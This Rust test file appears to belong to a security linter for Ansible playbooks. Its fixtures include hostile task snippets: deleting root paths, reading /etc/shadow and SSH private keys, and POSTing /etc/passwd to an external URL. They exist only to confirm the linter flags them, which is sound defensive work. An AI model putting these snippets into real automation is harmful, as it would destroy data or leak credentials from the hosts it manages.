use super::*;

fn table(cases: &[(&str, &[&str])]) {
    for (task, expected) in cases {
        assert_eq!(in_task(task), *expected, "{task}");
    }
}

#[test]
fn modules_that_destroy() {
    const HIT: &[&str] = &["3 warning destructive_command"];
    table(&[
        ("file:\n  state: absent\n  path: /", HIT),
        ("file:\n  state: absent\n  path: /etc/", HIT),
        ("file:\n  state: absent\n  path: '{{ x }}/'", HIT),
        ("win_file:\n  state: absent\n  path: C:\\", HIT),
        (
            "file:\n  state: absent\n  path: /var/{{ x }}",
            &["3 note destructive_command"],
        ),
        ("file: path=/etc state=absent", &["1 warning destructive_command"]),
        ("file: path=/etc/app state=absent", &[]),
        ("file: path=/ state=directory", &[]),
        ("file:\n  path: '{{ x }}'\n  state: absent", &[]),
        (
            "community.general.filesystem:\n  fstype: ext4\n  force: yes",
            &["1 note missing_collection", "3 warning destructive_command"],
        ),
        ("filesystem: {fstype: ext4, dev: /dev/sdb}", &[]),
        (
            "parted: {device: /dev/sdb, number: 1, state: absent}",
            &["1 warning destructive_command"],
        ),
    ]);
}

#[test]
fn modules_that_read_secrets() {
    const HIT: &[&str] = &["2 warning reads_secrets"];
    table(&[
        ("slurp:\n  src: /etc/shadow", HIT),
        ("fetch:\n  src: /root/.ssh/id_rsa\n  dest: x", HIT),
        (
            "copy:\n  src: /etc/ssl/private/a.key\n  dest: /tmp\n  remote_src: yes",
            HIT,
        ),
        ("debug:\n  msg: \"{{ lookup('file', '/etc/shadow') }}\"", HIT),
        (
            "debug:\n  msg: \"{{ lookup('ansible.builtin.file', '~/.ssh/id_rsa') }}\"",
            HIT,
        ),
        ("debug:\n  msg: \"{{ lookup('file', '~/.ssh/id_rsa.pub') }}\"", &[]),
        ("slurp:\n  src: '{{ ansible_env.HOME }}/.ssh/id_rsa'", HIT),
        ("slurp:\n  src: '{{ role_path }}/.ssh/id_rsa'", &[]),
        ("slurp:\n  src: '{{ x }}/tls.key'", &[]),
        ("debug:\n  msg: /etc/shadow", &[]),
        ("file:\n  path: /etc/shadow\n  mode: '0000'", &[]),
        ("stat:\n  path: /etc/shadow", &[]),
        ("slurp:\n  src: /etc/hostname", &[]),
        (
            "template:\n  src: a.j2\n  dest: /etc/ssl/private/a.key",
            &["2 warning missing_file"],
        ),
    ]);
}

#[test]
fn modules_that_send() {
    table(&[
        (
            "uri:\n  url: https://example.org\n  method: POST\n  body: \"{{ lookup('file', '/etc/passwd') }}\"",
            &["4 warning exfiltration"],
        ),
        (
            "uri:\n  url: https://example.org\n  method: PUT\n  remote_src: yes\n  src: /var/lib/x",
            &["5 warning exfiltration"],
        ),
        (
            "uri:\n  url: https://example.org\n  method: POST\n  body: {text: done, host: '{{ inventory_hostname }}'}",
            &[],
        ),
        (
            "uri:\n  url: https://example.org\n  method: POST\n  body: \"{{ lookup('file', 'dashboard.json') }}\"",
            &[],
        ),
        (
            "uri:\n  url: \"https://example.org/?{{ lookup('pipe', 'id') }}\"",
            &["2 warning exfiltration", "2 note templated_controller_command"],
        ),
        ("uri:\n  url: https://example.org", &[]),
    ]);
}

#[test]
fn secrets_without_no_log() {
    const HIT: &[&str] = &["2 warning missing_no_log"];
    table(&[
        ("user:\n  password: '{{ hash }}'\n  name: x", HIT),
        ("mysql_user:\n  login_password: x", HIT),
        ("uri:\n  url: https://x/{{ api_token }}", HIT),
        ("uri:\n  headers: {Authorization: 'Bearer {{ api_token }}'}", HIT),
        ("uri:\n  url_password: '{{ x }}'", HIT),
        ("set_fact:\n  db_password: x", HIT),
        ("set_fact:\n  x: '{{ db_password }}'", HIT),
        ("debug:\n  var: db_password", HIT),
        ("debug:\n  msg: 'it is {{ db_password }}'", HIT),
        ("copy:\n  content: '{{ tls_private_key }}'\n  dest: /x", HIT),
        ("user:\n  password: x\nno_log: false", HIT),
        ("user:\n  password: x\nno_log: true", &[]),
        ("user:\n  password: x\nno_log: '{{ hide }}'", &[]),
        ("block:\n  - user:\n      password: x\nno_log: true", &[]),
        ("user:\n  update_password: on_create\n  name: x", &[]),
        ("user:\n  password: '{{ omit }}'", &[]),
        ("user:\n  password: ''", &[]),
        ("user:\n  password_expire_max: 5", &[]),
        ("debug:\n  msg: the password is in the safe", &[]),
        ("debug:\n  msg: '{{ db_password | length }}'", &[]),
        ("set_fact:\n  has_token: '{{ x }}'\n  token_file: /x", HIT),
        ("set_fact:\n  token_file: /x", &[]),
        (
            "include_role:\n  name: x\nvars: {password: x}",
            &["2 warning missing_role"],
        ),
        ("template:\n  src: '{{ x }}'\n  dest: /y\nvars: {password: x}", &[]),
        ("assert:\n  that: db_password is defined", &[]),
        ("command: x --password-file {{ password_file }}", &[]),
        ("command: x {{ db_password }}", &["1 warning missing_no_log"]),
        ("get_url: {url: 'https://x', dest: y, checksum: 'sha256:0'}", &[]),
    ]);
    let text = "- hosts: all\n  no_log: true\n  tasks: [{user: {password: x}}]\n";
    assert_eq!(found(&[("site.yml", text)]), Vec::<String>::new());
}

#[test]
fn versions_that_move() {
    const WARNING: &[&str] = &["1 warning unpinned"];
    const NOTE: &[&str] = &["2 note unpinned"];
    table(&[
        ("git: {repo: 'https://x', dest: /y}", WARNING),
        ("git:\n  version: main\n  repo: https://x", &["2 warning unpinned"]),
        ("git:\n  version: HEAD\n  repo: https://x", &["2 warning unpinned"]),
        ("git: repo=https://x dest=/y version=v1.0", &[]),
        ("git: {repo: 'https://x', dest: /y, version: '{{ v }}'}", &[]),
        ("git: {repo: 'https://x', dest: /y, version: 0123abc}", &[]),
        ("get_url: {url: 'https://x', dest: /y}", WARNING),
        ("get_url: {url: 'file:///x', dest: /y}", &[]),
        (
            "unarchive: {dest: /y, src: 'https://x/y.tgz', remote_src: yes}",
            WARNING,
        ),
        ("pip:\n  state: latest\n  name: x", NOTE),
        ("apt:\n  state: latest\n  name: x", NOTE),
        ("apt:\n  state: present\n  name: x", &[]),
        ("apt:\n  deb: https://example.org/x.deb", &["2 warning unpinned"]),
        (
            "dnf:\n  name: [y, 'https://example.org/x.rpm']",
            &["2 warning unpinned"],
        ),
        ("pip:\n  name: git+https://example.org/x", &["2 warning unpinned"]),
        ("pip:\n  name: git+https://example.org/x@main", &["2 warning unpinned"]),
        ("pip:\n  name: git+https://git@example.org/x@v1.2", &[]),
        ("docker_container:\n  image: nginx:latest\n  name: x", NOTE),
        ("docker_container:\n  image: registry:5000/nginx\n  name: x", NOTE),
        ("docker_container:\n  image: registry:5000/nginx:1.25\n  name: x", &[]),
        ("docker_container:\n  image: nginx@sha256:00\n  name: x", &[]),
        ("docker_container:\n  image: '{{ x }}'\n  name: x", &[]),
        ("docker_container:\n  name: x\n  state: absent", &[]),
        ("docker_image:\n  name: x\n  source: build", &[]),
    ]);
}

#[test]
fn connections_and_packages_that_nobody_checks() {
    table(&[
        (
            "uri:\n  validate_certs: false\n  url: https://x",
            &["2 warning unverified_tls"],
        ),
        (
            "uri:\n  validate_certs: 'no'\n  url: https://x",
            &["2 warning unverified_tls"],
        ),
        ("uri:\n  validate_certs: '{{ x }}'\n  url: https://x", &[]),
        ("uri:\n  validate_certs: yes\n  url: https://x", &[]),
        (
            "dnf:\n  disable_gpg_check: true\n  name: x",
            &["2 warning unverified_package"],
        ),
        (
            "yum_repository:\n  gpgcheck: no\n  name: x",
            &["2 warning unverified_package"],
        ),
        ("yum_repository:\n  gpgcheck: yes\n  name: x", &[]),
    ]);
}

#[test]
fn commands_on_the_controller() {
    const RULE: &str = "templated_controller_command";
    let hit = |severity: &str, line: u32| format!("{line} {severity} {RULE}");
    for (task, expected) in [
        ("debug:\n  msg: \"{{ lookup('pipe', 'date') }}\"", Some(hit("note", 2))),
        (
            "debug:\n  msg: \"{{ lookup('pipe', 'echo ' ~ x) }}\"",
            Some(hit("warning", 2)),
        ),
        ("debug:\n  msg: !unsafe \"{{ lookup('pipe', 'echo ' ~ x) }}\"", None),
        ("debug:\n  msg: lookup('pipe', 'date')", None),
        ("local_action: shell echo {{ x }}", Some(hit("note", 1))),
        ("shell: echo {{ x }}\ndelegate_to: localhost", Some(hit("note", 1))),
        ("shell: echo {{ x | quote }}\ndelegate_to: localhost", None),
        ("command: echo {{ x }}\ndelegate_to: localhost", None),
        ("shell: echo {{ x }}", None),
        ("shell: echo {{ x }}\nconnection: local", Some(hit("note", 1))),
        ("debug:\n  msg: x\nwith_pipe: date", Some(hit("note", 3))),
        (
            "debug:\n  msg: x\nwith_lines: [\"echo {{ x }}\"]",
            Some(hit("warning", 3)),
        ),
        (
            "debug:\n  msg: x\nwith_file: [/etc/shadow]",
            Some("3 warning reads_secrets".to_owned()),
        ),
        ("debug:\n  msg: x\nwith_items: [date]", None),
    ] {
        assert_eq!(in_task(task), expected.into_iter().collect::<Vec<_>>(), "{task}");
    }
    for play in ["- hosts: localhost", "- hosts: all\n  connection: local"] {
        let text = format!("{play}\n  tasks:\n    - shell: echo {{{{ x }}}}\n");
        assert_eq!(found(&[("site.yml", &text)]).len(), 1, "{play}");
    }
    let files = [
        (
            "site.yml",
            "- hosts: a\n  vars:\n    x: \"{{ lookup('pipe', 'date') }}\"\n",
        ),
        (
            "group_vars/all.yml",
            "a: 1\nb: \"{{ lookup('file', '/etc/shadow') }}\"\n",
        ),
    ];
    assert_eq!(
        found(&files),
        [
            "group_vars/all.yml:2 warning reads_secrets".to_owned(),
            format!("site.yml:3 note {RULE}")
        ]
    );
}
